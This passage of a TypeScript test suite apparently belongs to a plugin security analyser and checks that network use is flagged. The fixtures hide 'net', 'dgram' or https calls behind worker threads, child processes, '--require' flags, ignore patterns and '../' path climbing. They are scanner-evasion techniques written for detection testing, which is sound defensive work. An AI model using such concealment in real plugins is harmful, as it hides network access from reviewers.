  it('follows a file started as a thread or a Node process like a load, and reads it even when an ignore pattern names it', async () => {
    const manifest = { ...MANIFEST, capabilities: { worker: true, childProcess: true } };
    const startedBy = async (index: string, extra: Record<string, string | object> = {}) =>
      summary((await analyzePlugin(writePlugin({ 'package.json': manifest, 'index.js': index, 'lib/task.js': "require('net');", ...extra }), { cache: false })).findings).filter((line) => !line.startsWith('index.js'));
    // Not started: unreachable, lowered.
    expect(await startedBy('')).toEqual(['lib/task.js:1 no-network medium unreachable']);
    const starts = [
      "new (require('worker_threads').Worker)(require('path').join(__dirname, 'lib', 'task.js'));",
      "require('child_process').fork('lib/task');",
      "require('child_process').spawn(process.execPath, ['--no-warnings', __dirname + '/lib/task.js']);",
      "const cluster = require('cluster'); cluster.setupPrimary({ exec: './lib/task.js' }); cluster.fork();",
      "require('child_process').fork('./lib/idle.js', [], { execArgv: ['--require', './lib/task.js'] });",
    ];
    for (const index of starts) expect(await startedBy(index, { 'lib/idle.js': '' }), index).toEqual(['lib/task.js:1 no-network high']);
    // An ESM worker started by URL.
    const esm = writePlugin({ 'package.json': { ...manifest, main: 'index.mjs' }, 'index.mjs': "import { Worker } from 'node:worker_threads';\nnew Worker(new URL('./lib/task.mjs', import.meta.url));", 'lib/task.mjs': "import 'node:dgram';" });
    expect(summary((await analyzePlugin(esm, { cache: false })).findings)).toContain('lib/task.mjs:1 no-network high');
    // Hidden by the manifest's ignores: a started file is read all the same.
    const hidden = writePlugin({ 'package.json': { ...manifest, warden: { ignores: ['lib/vendor/**'] } }, 'index.js': "new (require('worker_threads').Worker)(__dirname + '/lib/vendor/indexer.js');", 'lib/vendor/indexer.js': "require('dgram');" });
    expect(summary((await analyzePlugin(hidden, { cache: false })).findings)).toContain('lib/vendor/indexer.js:1 no-network high');
  });

  it('counts every file reachable when a started file cannot be named or found, and reads ignored files a path prefix reaches', async () => {
    const manifest = { ...MANIFEST, capabilities: { worker: true, childProcess: true } };
    const files = { 'package.json': manifest, 'lib/job.js': '', 'lib/unused.js': "require('net');" };
    const run = async (index: string) => summary((await analyzePlugin(writePlugin({ ...files, 'index.js': index }), { cache: false })).findings).filter((line) => !line.startsWith('index.js'));
    expect(await run("const { Worker } = require('worker_threads'); exports.activate = (ctx) => new Worker(ctx.config.file);")).toEqual(['lib/unused.js:1 no-network high']);
    expect(await run("require('child_process').fork('./jobs/missing.js');")).toEqual(['lib/unused.js:1 no-network high']);
    // A benign start of a file the plugin ships leaves the rest unreachable.
    expect(await run("require('child_process').fork(__dirname + '/lib/job.js');\n")).toEqual(['lib/unused.js:1 no-network medium unreachable']);
    // `require('./vendor/' + name)` may load an ignored file under vendor/: it is read.
    const prefix = writePlugin({ 'package.json': { ...MANIFEST, warden: { ignores: ['vendor/**'] } }, 'index.js': "module.exports = (name) => require('./vendor/' + name);", 'vendor/a.js': "require('dgram');" });
    expect(summary((await analyzePlugin(prefix, { cache: false })).findings)).toEqual(['index.js:1 no-dynamic-require low', 'vendor/a.js:1 no-network high']);
  });

  it('takes a prefix load whose rest can climb (`../`) to reach every file of the plugin, and a basename to stay in its folder', async () => {
    const files = { 'package.json': MANIFEST, 'themes/dark.js': '', 'lib/net/sync.js': "require('https').request('https://x.example');" };
    const lines = async (index: string) => [...new Set(summary((await analyzePlugin(writePlugin({ ...files, 'index.js': index }), { cache: false })).findings).filter((line) => line.startsWith('lib/')))];
    // A theme name from storage, the network or a command: './themes/../lib/net/sync' is that file.
    const theme = (load: string) => `exports.activate = async (ctx) => { const name = await ctx.storage.get('theme'); ctx.log(${load}.title); };`;
    expect(await lines(theme("require('./themes/' + name)"))).toEqual(['lib/net/sync.js:1 no-network high']);
    expect(await lines(theme('(await import(`./themes/${name}.js`))'))).toEqual(['lib/net/sync.js:1 no-network high']);
    // One name cannot leave themes/.
    expect(await lines(`const path = require('path');\n${theme("require('./themes/' + path.basename(name))")}`)).toEqual(['lib/net/sync.js:1 no-network medium unreachable']);
  });
});
